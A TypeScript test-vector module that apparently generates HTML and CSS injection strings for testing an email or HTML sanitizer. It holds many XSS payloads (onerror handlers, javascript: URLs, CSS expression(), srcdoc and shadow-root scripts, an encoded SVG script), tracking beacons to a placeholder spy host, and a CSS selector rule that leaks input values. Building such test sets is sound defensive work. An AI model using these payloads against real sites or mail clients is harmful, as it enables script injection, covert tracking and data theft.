import { call, spy, spyHost } from './vector-parts.ts';

/** Style sheets and inline styles: they load, cover and, in old browsers, run. */
export function styleVectors(): string[] {
  const rules = [
    `background:url(${spy})`,
    `background:url('${spy}')`,
    `background:u\\72l(${spy})`,
    `background-image:image-set("${spy}" 1x)`,
    `list-style:url(${spy})`,
    `cursor:url(${spy}),auto`,
    `content:url(${spy})`,
    `border-image:url(${spy}) 30`,
    `width:expression(${call})`,
    `xss:expr/**/ession(${call})`,
    `behavior:url(${spy})`,
    `-moz-binding:url(${spy}#x)`,
    `background:url(javascript:${call})`,
    `position:fixed;inset:0;z-index:9999;background:#fff`,
    `--x:url(${spy});background:var(--x)`,
    `filter:url(${spy}#x)`,
    `mask:url(${spy})`,
    `@import '${spy}'`,
  ];
  return [
    ...rules.flatMap((rule) => [
      `<p style="${rule}">x</p>`,
      `<style>p{${rule}}</style><p>x</p>`,
      `<div STYLE='${rule}'>x</div>`,
    ]),
    `<style>@import '${spy}.css';</style>`,
    `<style>@import url(${spy}.css);</style>`,
    `<style>@font-face{font-family:x;src:url(${spy})}*{font-family:x}</style>`,
    `<style>input[value^=a]{background:url(${spy})}</style>`,
    `<link rel=stylesheet href="${spy}.css">`,
    `<link rel=stylesheet href="data:text/css,*{background:url(${spy})}">`,
    `<style></style><script>${call}</script>`,
    `<style><img src="</style><img src=x onerror=${call}//">`,
  ];
}

/** Nothing runs, but something is fetched: the sender learns that, when and where the mail was opened. */
export function loadingVectors(): string[] {
  const relations = [
    'prefetch',
    'preload',
    'prerender',
    'dns-prefetch',
    'preconnect',
    'modulepreload',
    'icon',
    'manifest',
    'import',
    'next',
    'pingback',
    'alternate stylesheet',
  ];
  return [
    ...relations.map((relation) => `<link rel="${relation}" href="${spy}" as=image>`),
    `<img src="${spy}.png">`,
    `<img src="//${spyHost}/x.png">`,
    `<img src="HTTP://${spyHost}/x.png">`,
    `<img src=" https://${spyHost}/x.png">`,
    `<img src="ht\ntps://${spyHost}/x.png">`,
    `<img srcset="${spy}.png 1x, ${spy}2.png 2x">`,
    `<img src=x srcset="data:,a ${spy} 1x">`,
    `<picture><source srcset="${spy}.webp"><img src=x></picture>`,
    `<video src="${spy}.mp4" autoplay></video>`,
    `<video poster="${spy}.png"></video>`,
    `<video><source src="${spy}.mp4"></video>`,
    `<audio src="${spy}.mp3" autoplay></audio>`,
    `<video><track default src="${spy}.vtt"></video>`,
    `<input type=image src="${spy}.png">`,
    `<body background="${spy}.png">`,
    `<table background="${spy}.png"><tr><td background="${spy}.png">x</td></tr></table>`,
    `<iframe src="${spy}"></iframe>`,
    `<frameset><frame src="${spy}"></frameset>`,
    `<object data="${spy}.swf"></object>`,
    `<object><param name=src value="${spy}"></object>`,
    `<embed src="${spy}.swf">`,
    `<applet code=x archive="${spy}.jar"></applet>`,
    `<bgsound src="${spy}.mid">`,
    `<isindex type=image src="${spy}.png">`,
    `<a href="https://x.example/" ping="${spy}">x</a>`,
    `<script src="${spy}.js"></script>`,
    `<script type=module src="${spy}.mjs"></script>`,
    `<script type=importmap>{"imports":{"x":"${spy}"}}</script>`,
    `<form action="${spy}" id=f><input name=a></form><script>f.submit()</script>`,
    `<meta http-equiv=refresh content="0;url=${spy}">`,
    `<meta http-equiv="Set-Cookie" content="a=b">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    `<base href="https://${spyHost}/"><img src=x.png>`,
    `<base target=_top><a href="${spy}">x</a>`,
    `<html manifest="${spy}">`,
    `<svg><image xlink:href="${spy}.png"/></svg>`,
  ];
}

/** Whole documents inside. */
export function documentVectors(): string[] {
  return [
    `<iframe srcdoc="<script>${call}</script>"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;"></iframe>`,
    `<iframe srcdoc='<img src=x onerror=parent.${call}>'></iframe>`,
    `<html><head><script>${call}</script></head><body onload=${call}>x</body></html>`,
    `<head><base href="javascript:/"></head><a href="/x/#${call}">x</a>`,
    `<object type="text/x-scriptlet" data="${spy}"></object>`,
    `<object classid="clsid:x"><param name=url value=javascript:${call}></object>`,
    `<fencedframe src="${spy}"></fencedframe>`,
    `<dialog open><form method=dialog action=javascript:${call}><button>x</button></form></dialog>`,
    `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
    `<div><template shadowrootmode=open><slot></slot><script>${call}</script></template></div>`,
    `<embed type="image/svg+xml" src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${call}</script></svg>`).toString('base64')}">`,
  ];
}
